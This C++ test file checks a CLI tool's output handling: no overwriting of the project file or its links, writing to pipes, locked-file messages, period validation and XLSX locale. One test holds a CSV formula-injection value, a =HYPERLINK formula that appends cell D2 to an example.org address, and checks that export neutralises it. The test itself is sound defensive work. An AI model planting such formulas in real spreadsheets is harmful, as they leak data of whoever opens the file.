// Where a command writes its output: never over the project (under any name) or its side
// files, directly into a device or a pipe, and with a clear message when the file is locked.

#include "core/common/FileIdentity.h"
#include "core/io/CsvTable.h"
#include "support/CliProcess.h"
#include "support/DemoFiles.h"
#include "support/FileBytes.h"
#include "support/QtStringMakers.h"

#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QTemporaryDir>

#if defined(Q_OS_UNIX)
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>
#endif

using namespace osiedle;
using test::runCli;

namespace {

const QString kPeriod = QStringLiteral("2012-01-01..2012-03-31");

} // namespace

TEST_CASE("No command writes its output over the project, its side files or another name of it", "[cli][output]")
{
    QTemporaryDir dir;
    const QString project = test::demoCopy(1, dir.path());
    const QString symlink = dir.filePath(QStringLiteral("skrót.csv"));
    REQUIRE(QFile::link(project, symlink));
    const QByteArray before = test::fileHash(project);
    const QStringList files = test::filesIn(dir.path());

    const QList<QStringList> calls = {
        {QStringLiteral("export"), project, QStringLiteral("participants"), QStringLiteral("--format"),
         QStringLiteral("csv"), QStringLiteral("-o"), project},
        {QStringLiteral("export"), project, QStringLiteral("participants"), QStringLiteral("--format"),
         QStringLiteral("xlsx"), QStringLiteral("-o"), project},
        {QStringLiteral("export"), project, QStringLiteral("indicators"), QStringLiteral("--format"),
         QStringLiteral("csv"), QStringLiteral("-o"), project, QStringLiteral("--period"), kPeriod},
        {QStringLiteral("report"), project, QStringLiteral("--period"), kPeriod, QStringLiteral("-o"), project},
        {QStringLiteral("report"), project, QStringLiteral("--period"), kPeriod, QStringLiteral("--format"),
         QStringLiteral("csv"), QStringLiteral("-o"), symlink},
        {QStringLiteral("print"), project, QStringLiteral("timeline"), QStringLiteral("-o"), project},
        {QStringLiteral("backup"), project, QStringLiteral("-o"), project + QStringLiteral("-wal")},
        {QStringLiteral("backup"), project, QStringLiteral("-o"), project + QStringLiteral(".lock")},
        {QStringLiteral("report"), project, QStringLiteral("--period"), kPeriod, QStringLiteral("--format"),
         QStringLiteral("json"), QStringLiteral("-o"), project + QStringLiteral("-shm")},
    };
    for (const QStringList& call : calls) {
        INFO(call.join(QLatin1Char(' ')).toStdString());
        const auto run = runCli(call);
        INFO(run.err.toStdString());
        CHECK(run.exitCode == 1);
        CHECK((run.err.contains(QStringLiteral("is the project file")) ||
               run.err.contains(QStringLiteral("belongs to the project"))));
        CHECK(test::fileHash(project) == before);
        CHECK(test::filesIn(dir.path()) == files);
    }
#if defined(Q_OS_UNIX)
    const QString hard = dir.filePath(QStringLiteral("druga nazwa.csv"));
    REQUIRE(::link(QFile::encodeName(project).constData(), QFile::encodeName(hard).constData()) == 0);
    const auto run = runCli({QStringLiteral("export"), project, QStringLiteral("participants"),
                             QStringLiteral("--format"), QStringLiteral("csv"), QStringLiteral("-o"), hard});
    CHECK(run.exitCode == 1);
    CHECK(run.err.contains(QStringLiteral("is the project file")));
    CHECK(test::fileHash(project) == before);
#endif
}

#if defined(Q_OS_UNIX)
TEST_CASE("Output to a device or a pipe is written into it, never replaced by a file", "[cli][output]")
{
    QTemporaryDir dir;
    const QString project = test::demoCopy(1, dir.path());
    const auto toNull =
        runCli({QStringLiteral("report"), project, QStringLiteral("--period"), kPeriod, QStringLiteral("--format"),
                QStringLiteral("json"), QStringLiteral("-o"), QStringLiteral("/dev/null")});
    INFO(toNull.err.toStdString());
    CHECK(toNull.exitCode == 0);
    CHECK(core::FileIdentity::of(QStringLiteral("/dev/null")).kind == core::FileIdentity::Kind::Other);

    const QString fifo = dir.filePath(QStringLiteral("pipe"));
    REQUIRE(::mkfifo(QFile::encodeName(fifo).constData(), 0600) == 0);
    const int fd = ::open(QFile::encodeName(fifo).constData(), O_RDONLY | O_NONBLOCK);
    REQUIRE(fd >= 0);
    const auto toPipe = runCli({QStringLiteral("report"), project, QStringLiteral("--period"), kPeriod,
                                QStringLiteral("--format"), QStringLiteral("json"), QStringLiteral("-o"), fifo});
    QByteArray received;
    char buffer[65536];
    for (ssize_t got = 0; (got = ::read(fd, buffer, sizeof buffer)) > 0;) {
        received.append(buffer, int(got));
    }
    ::close(fd);
    CHECK(toPipe.exitCode == 0);
    CHECK(core::FileIdentity::of(fifo).kind == core::FileIdentity::Kind::Other);
    const QJsonDocument json = QJsonDocument::fromJson(received);
    CHECK(json.object().value(QStringLiteral("period")).toObject().value(QStringLiteral("from")).toString() ==
          QStringLiteral("2012-01-01"));
}

TEST_CASE("An export to a file that cannot be written says it may be open in another program", "[cli][output]")
{
    QTemporaryDir dir;
    const QString project = test::demoCopy(1, dir.path());
    test::allowReading(dir.path());
    test::allowReading(project);
    QTemporaryDir outDir;
    QFile::setPermissions(outDir.path(), QFileDevice::Permissions(0x7777));
    const QString target = outDir.filePath(QStringLiteral("uczestnicy.csv"));
    test::writeFile(target, "open in Excel");
    QFile::setPermissions(target, QFileDevice::ReadOwner | QFileDevice::ReadGroup | QFileDevice::ReadOther);
    test::CliOptions options;
    options.withoutRights = true;
    const auto run = runCli(
        {QStringLiteral("export"), project, QStringLiteral("participants"), QStringLiteral("-o"), target}, options);
    INFO(run.err.toStdString());
    CHECK(run.exitCode == 1);
    CHECK(run.err.contains(QStringLiteral("may be open in another program")));
    CHECK(test::readFile(target) == "open in Excel");
    CHECK(QDir(outDir.path()).entryList(QDir::Files) == QStringList{QStringLiteral("uczestnicy.csv")});
}
#endif

TEST_CASE("A participant named like a formula is exported as text", "[cli][export]")
{
    QTemporaryDir dir;
    const QString project = test::demoCopy(1, dir.path());
    const QString input = dir.filePath(QStringLiteral("nowi.csv"));
    test::writeFile(input,
                    "first_name;last_name;pesel;recruited_on\n"
                    "\"=HYPERLINK(\"\"http://example.org/?d=\"\"&D2,\"\"x\"\")\";@Nowak;44051401359;2011-03-01\n");
    const auto imported = runCli({QStringLiteral("import"), project, QStringLiteral("participants"), input});
    INFO(imported.err.toStdString());
    REQUIRE(imported.exitCode == 0);
    const QString out = dir.filePath(QStringLiteral("uczestnicy.csv"));
    REQUIRE(runCli({QStringLiteral("export"), project, QStringLiteral("participants"), QStringLiteral("-o"), out})
                .exitCode == 0);
    const QString text = QString::fromUtf8(test::readFile(out));
    CHECK(text.contains(QStringLiteral("\"'=HYPERLINK(\"\"http://example.org/?d=\"\"&D2,\"\"x\"\")\"")));
    CHECK(text.contains(QStringLiteral(";'@Nowak;")));
    CHECK_FALSE(text.contains(QStringLiteral(";=HYPERLINK")));
}

TEST_CASE("A wrong --period is a wrong call (exit 2) for report and export alike", "[cli][period]")
{
    QTemporaryDir dir;
    const QString project = test::demoCopy(1, dir.path());
    const QString out = dir.filePath(QStringLiteral("out.csv"));
    for (const QString& kind : {QStringLiteral("report"), QStringLiteral("export")}) {
        QStringList base = kind == QLatin1String("report") ? QStringList{kind, project}
                                                           : QStringList{kind, project, QStringLiteral("indicators")};
        base << QStringLiteral("--format") << QStringLiteral("csv") << QStringLiteral("-o") << out;
        for (const QString& period :
             {QStringLiteral("2012-01-01xyz..2012-06-30junk"), QStringLiteral("2012-1-1..2012-06-30"),
              QStringLiteral("2012-06-30..2012-01-01"), QStringLiteral("kwartał")}) {
            INFO((kind + QLatin1Char(' ') + period).toStdString());
            const auto run = runCli(base + QStringList{QStringLiteral("--period"), period});
            CHECK(run.exitCode == 2);
            CHECK(run.err.contains(QStringLiteral("Usage:")));
            CHECK_FALSE(QFileInfo::exists(out));
        }
        // A period the file does not have is a problem with the data: exit 1.
        const auto missing = runCli(base + QStringList{QStringLiteral("--period"), QStringLiteral("99")});
        CHECK(missing.exitCode == 1);
        CHECK(missing.err.contains(QStringLiteral("no reporting period with id or number 99")));
    }
}

TEST_CASE("The indicator report's XLSX holds numbers with a decimal point under a Polish locale", "[cli][xlsx]")
{
    QTemporaryDir dir;
    const QString project = test::demoCopy(1, dir.path());
    const QString xlsx = dir.filePath(QStringLiteral("raport.xlsx"));
    const QString json = dir.filePath(QStringLiteral("raport.json"));
    test::CliOptions polish;
    polish.environment = {{QStringLiteral("LC_ALL"), QStringLiteral("pl_PL.UTF-8")},
                          {QStringLiteral("OSIEDLE_LANG"), QStringLiteral("pl")}};
    const auto written = runCli(
        {QStringLiteral("report"), project, QStringLiteral("--period"), kPeriod, QStringLiteral("-o"), xlsx}, polish);
    INFO(written.err.toStdString());
    REQUIRE(written.exitCode == 0);
    REQUIRE(runCli({QStringLiteral("report"), project, QStringLiteral("--period"), kPeriod, QStringLiteral("-o"), json})
                .exitCode == 0);
    const auto table = core::readTableFile(xlsx);
    REQUIRE(table.ok());
    const QJsonObject report = QJsonDocument::fromJson(test::readFile(json)).object();
    int moneyCells = 0;
    int percentCells = 0;
    for (const QJsonValue& value : report.value(QStringLiteral("indicators")).toArray()) {
        const QJsonObject indicator = value.toObject();
        const QString code = indicator.value(QStringLiteral("code")).toString();
        const auto row = std::find_if(table->rows.begin(), table->rows.end(),
                                      [&code](const core::CsvTable::Row& r) { return r.field(0) == code; });
        REQUIRE(row != table->rows.end());
        const qint64 cumulative =
            indicator.value(QStringLiteral("cumulative")).toObject().value(QStringLiteral("total")).toInteger();
        // Column 11: cumulative total; column 14: % of target.
        if (indicator.value(QStringLiteral("money")).toBool()) {
            INFO(code.toStdString());
            CHECK(qRound64(row->field(11).toDouble() * 100) == cumulative);
            ++moneyCells;
        }
        if (!indicator.value(QStringLiteral("percent_of_target")).isNull()) {
            bool ok = false;
            const double percent = row->field(14).toDouble(&ok);
            CHECK(ok); // "77.5", not "77,5"
            CHECK(percent == Approx(indicator.value(QStringLiteral("percent_of_target")).toDouble()).margin(0.05));
            ++percentCells;
        }
    }
    CHECK(moneyCells > 0);
    CHECK(percentCells > 0);
}
